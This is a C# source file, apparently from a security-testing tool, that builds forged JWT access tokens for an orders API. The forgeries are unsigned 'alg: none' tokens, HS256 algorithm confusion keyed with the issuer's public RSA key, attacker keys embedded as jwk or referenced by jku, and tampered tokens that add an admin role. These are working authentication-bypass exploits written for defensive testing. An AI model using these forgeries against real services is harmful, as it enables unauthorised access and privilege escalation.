using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace MicroSecure.AttackSimulation;

/// <summary>
/// Access tokens an attacker can make without the issuer's private key: unsigned, signed with the wrong
/// algorithm or an attacker's own key, carrying their own key, or tampered. Built byte by byte on purpose: a
/// JWT library refuses to write most of them. The claims look like a real access token for the orders API, so
/// only the forgery itself can be what refuses them.
/// </summary>
public sealed class ForgedTokens
{
    /// <summary>The subject every forged token claims (no such account exists).</summary>
    public const string Subject = "microsecure-attack-simulation";

    private const string Audience = "orders-api";
    private const string AttackerIssuer = "https://attacker.invalid/";

    private readonly AttackTarget _target;
    private readonly Lazy<RSA> _attackerKey = new(() => RSA.Create(2048));

    internal ForgedTokens(AttackTarget target) => _target = target;

    /// <summary><c>alg: none</c> and no signature.</summary>
    public async Task<string> UnsignedAsync(CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        return Compact(Header("none", issuer.KeyId), Claims(issuer.Issuer), []);
    }

    /// <summary>Algorithm confusion: HS256, keyed with the issuer's public RSA key as a verifier that trusts the header would use it.</summary>
    public async Task<string> HmacWithIssuerPublicKeyAsync(CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        using var rsa = RSA.Create(new RSAParameters { Modulus = issuer.Modulus, Exponent = issuer.Exponent });
        var secret = Encoding.ASCII.GetBytes(rsa.ExportSubjectPublicKeyInfoPem());
        var signingInput = SigningInput(Header("HS256", issuer.KeyId), Claims(issuer.Issuer));
        return $"{signingInput}.{Encode(HMACSHA256.HashData(secret, Encoding.ASCII.GetBytes(signingInput)))}";
    }

    /// <summary>Signed with the attacker's key, which the header carries as <c>jwk</c> for the verifier to trust.</summary>
    public async Task<string> EmbeddedKeyAsync(CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        var header = Header("RS256", "attacker-key");
        var key = _attackerKey.Value.ExportParameters(false);
        header["jwk"] = new JsonObject { ["kty"] = "RSA", ["kid"] = "attacker-key", ["n"] = Encode(key.Modulus!), ["e"] = Encode(key.Exponent!) };
        return Signed(header, Claims(issuer.Issuer));
    }

    /// <summary>Signed with the attacker's key, whose key set the header points to (<c>jku</c>) on the attacker's host.</summary>
    public async Task<string> RemoteKeySetAsync(CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        var header = Header("RS256", "attacker-key");
        header["jku"] = AttackerIssuer + ".well-known/jwks.json";
        return Signed(header, Claims(issuer.Issuer));
    }

    /// <summary>A well-formed token from another issuer, signed by that issuer's (the attacker's) key.</summary>
    public Task<string> ForeignIssuerAsync(CancellationToken cancellationToken) =>
        Task.FromResult(Signed(Header("RS256", "attacker-key"), Claims(AttackerIssuer)));

    /// <summary>
    /// Names the issuer and its real key id, but the attacker signed it: what a token with edited claims (a
    /// scope or a role added) looks like. <paramref name="expired"/> and <paramref name="audience"/> make the
    /// claims themselves wrong as well.
    /// </summary>
    public async Task<string> TamperedAsync(bool expired, string? audience, CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        var claims = Claims(issuer.Issuer, audience);
        if (expired)
        {
            var past = DateTimeOffset.UtcNow.AddHours(-2).ToUnixTimeSeconds();
            claims["iat"] = past - 600;
            claims["nbf"] = past - 600;
            claims["exp"] = past;
        }

        claims["role"] = "admin";
        return Signed(Header("RS256", issuer.KeyId), claims);
    }

    /// <summary>A correctly shaped but huge token (claims padded to about <paramref name="bytes"/>).</summary>
    public async Task<string> OversizedAsync(int bytes, CancellationToken cancellationToken)
    {
        var issuer = await _target.IssuerAsync(cancellationToken).ConfigureAwait(false);
        var claims = Claims(issuer.Issuer);
        claims["pad"] = new string('A', Math.Max(0, bytes * 3 / 4));
        return Signed(Header("RS256", issuer.KeyId), claims);
    }

    private string Signed(JsonObject header, JsonObject claims)
    {
        var signingInput = SigningInput(header, claims);
        var signature = _attackerKey.Value.SignData(Encoding.ASCII.GetBytes(signingInput), HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        return $"{signingInput}.{Encode(signature)}";
    }

    private static JsonObject Header(string algorithm, string keyId) => new() { ["alg"] = algorithm, ["typ"] = "at+jwt", ["kid"] = keyId };

    private static JsonObject Claims(string issuer, string? audience = null)
    {
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        return new JsonObject
        {
            ["iss"] = issuer,
            ["sub"] = Subject,
            ["aud"] = audience ?? Audience,
            ["scope"] = "orders:read orders:write",
            ["client_id"] = "web",
            ["jti"] = Guid.NewGuid().ToString("N"),
            ["iat"] = now,
            ["nbf"] = now,
            ["exp"] = now + 600,
        };
    }

    private static string SigningInput(JsonObject header, JsonObject claims) =>
        $"{Encode(JsonSerializer.SerializeToUtf8Bytes(header))}.{Encode(JsonSerializer.SerializeToUtf8Bytes(claims))}";

    private static string Compact(JsonObject header, JsonObject claims, byte[] signature) => $"{SigningInput(header, claims)}.{Encode(signature)}";

    private static string Encode(byte[] bytes) => Base64Url.EncodeToString(bytes);
}
